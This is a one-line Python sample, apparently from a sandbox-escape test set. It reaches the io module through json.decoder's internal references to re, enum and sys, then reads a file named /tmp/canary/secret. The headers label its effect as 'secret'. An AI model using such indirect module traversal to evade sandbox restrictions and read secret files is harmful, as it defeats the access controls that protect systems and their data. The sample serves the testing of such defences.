# source: own
# effect: secret

from json import decoder

print(decoder.scanner.c_make_scanner and decoder.re.enum.sys.modules["io"].open("/tmp/canary/secret").read())
